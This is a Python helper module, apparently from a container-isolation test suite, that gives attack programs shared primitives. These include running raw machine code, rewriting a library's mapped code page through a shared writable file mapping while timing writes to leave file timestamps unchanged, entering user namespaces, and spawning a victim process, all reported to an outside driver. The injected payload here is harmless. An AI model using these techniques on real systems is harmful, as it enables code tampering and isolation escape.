"""What the attacks' programs share: system calls, the process's own mappings, and words with the driver outside."""
import ctypes
import json
import mmap
import os
import platform
import signal
import sys
import time

READ, WRITE, EXEC = mmap.PROT_READ, mmap.PROT_WRITE, mmap.PROT_EXEC
SHARED, PRIVATE, FIXED, ANONYMOUS = 0x01, 0x02, 0x10, 0x20
NEW_MOUNTS, NEW_USER, NEW_PIDS = 0x00020000, 0x10000000, 0x20000000
PAGE = 4096
ARM = platform.machine() == "aarch64"
# return 42
CODE = bytes.fromhex("40058052c0035fd6") if ARM else bytes.fromhex("b82a000000c3")
# An endless loop that does nothing but wait: pause(), again and again; ppoll(0, 0, 0, 0) where there is no pause.
WAIT = (
    bytes.fromhex("000080d2010080d2020080d2030080d2680980d2010000d4faffff17")
    if ARM
    else bytes.fromhex("b8220000000f05ebf7")
)

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = libc.mremap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long


def check(result):
    """The result of a system call, or its error as an exception."""
    if result is None or result in (-1, 2**64 - 1):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def map_memory(length, prot, flags=PRIVATE | ANONYMOUS, fd=-1, at=None, offset=0):
    return check(libc.mmap(at, length, prot, flags | (FIXED if at else 0), fd, offset))


def protect(address, length, prot):
    check(libc.mprotect(address, length, prot))


def call(address):
    """Runs code that takes nothing and returns a number."""
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


def mappings(pid="self"):
    """(start, end, permissions, offset, path) of each mapping."""
    for line in open(f"/proc/{pid}/maps"):
        fields = line.rstrip("\n").split(None, 5)
        start, end = (int(part, 16) for part in fields[0].split("-"))
        yield start, end, fields[1], int(fields[2], 16), fields[5] if len(fields) > 5 else ""


def text_of(name, pid="self"):
    """Bounds of the executable mapping of a file, by the end of its path."""
    return next((m[0], m[1]) for m in mappings(pid) if m[2][2] == "x" and m[4].endswith(name))


def spare_code():
    """Address of a page of a listed library's code that nobody in this process runs."""
    ctypes.CDLL("libm.so.6")
    start, end = text_of("/libm.so.6")
    return start + (end - start) // PAGE // 2 * PAGE


def own_library(program):
    """A library of the container's own layer that `program` has loaded: its path, spare code in it, and where that is in the file."""
    path = f"/usr/lib/{platform.machine()}-linux-gnu/libm.so.6"
    if sys.argv[1:] != ["loaded"]:
        # Into the container's own layer, before the program loads it once more.
        open(path, "r+b").close()
        os.execv(program, [program, "loaded"])
    target = spare_code()
    start, _ = text_of("/libm.so.6")
    return path, target, next(m[3] for m in mappings() if m[0] == start) + target - start


def rewrite_shared(path, target, offset):
    """Rewrites a page of code that is mapped at `target` through a shared writable mapping of its file, whose descriptor is closed."""
    fd = os.open(path, os.O_RDWR)
    window = map_memory(PAGE, READ | WRITE, SHARED, fd, offset=offset)
    os.close(fd)
    original = ctypes.string_at(target, PAGE)
    for attempt in range(20):
        # The first write after the kernel has written the page to its disk changes the file's times, the next ones do not.
        ctypes.memmove(window, original, PAGE)
        say(f"touched-{attempt}")
        wait_for(f"write-{attempt}")
        before = os.stat(path)
        ctypes.memmove(window, CODE, len(CODE))
        after = os.stat(path)
        if (before.st_mtime_ns, before.st_ctime_ns) == (after.st_mtime_ns, after.st_ctime_ns):
            break
        # It was written to its disk in between.
        ctypes.memmove(window, original, PAGE)
    assert call(target) == 42
    say("done")


def spare_library(path):
    """Loads a copy of a small listed library from `path`. Returns a page of its code that nobody runs, and where that is in the file."""
    with open("/usr/local/lib/spare.so", "rb") as library, open(path, "wb") as copy:
        copy.write(library.read())
    ctypes.CDLL(path)
    start, _ = text_of(path)
    return start + PAGE, PAGE


def be_root_below(more=0):
    """
    Goes into a user namespace of its own, where this process may do what the container's root may not, and into `more` namespaces (CLONE_NEW…).
    As another user, since the container's root may not be root of a user namespace below.
    """
    os.setgid(1)
    os.setuid(1)
    # A process that has changed its user may not write its own maps otherwise (PR_SET_DUMPABLE).
    check(libc.prctl(4, 1))
    check(libc.unshare(NEW_USER | more))
    for name, text in (("setgroups", "deny"), ("uid_map", "0 1 1"), ("gid_map", "0 1 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)


def start_victim():
    """Another process of the image, as a child. Returns its number once it runs its own program."""
    pid = os.fork()
    if pid == 0:
        os.execv("/usr/bin/sleep", ["sleep", "3600"])
    while not os.readlink(f"/proc/{pid}/exe").endswith("/sleep") or "S (sleeping)" not in open(f"/proc/{pid}/status").read():
        time.sleep(0.01)
    return pid


def say(word, **facts):
    """Tells the driver how far it is. Whoever says `done` has seen the attack take effect."""
    with open(f"/run/web/{word}.draft", "w") as file:
        json.dump({"pid": os.getpid(), **facts}, file)
    os.rename(f"/run/web/{word}.draft", f"/run/web/{word}.said")


def wait_for(word):
    """Waits until the driver says so."""
    while not os.path.exists(f"/run/web/{word}.go"):
        time.sleep(0.01)


def stay():
    """The process goes on until it is ended from outside."""
    while True:
        signal.pause()
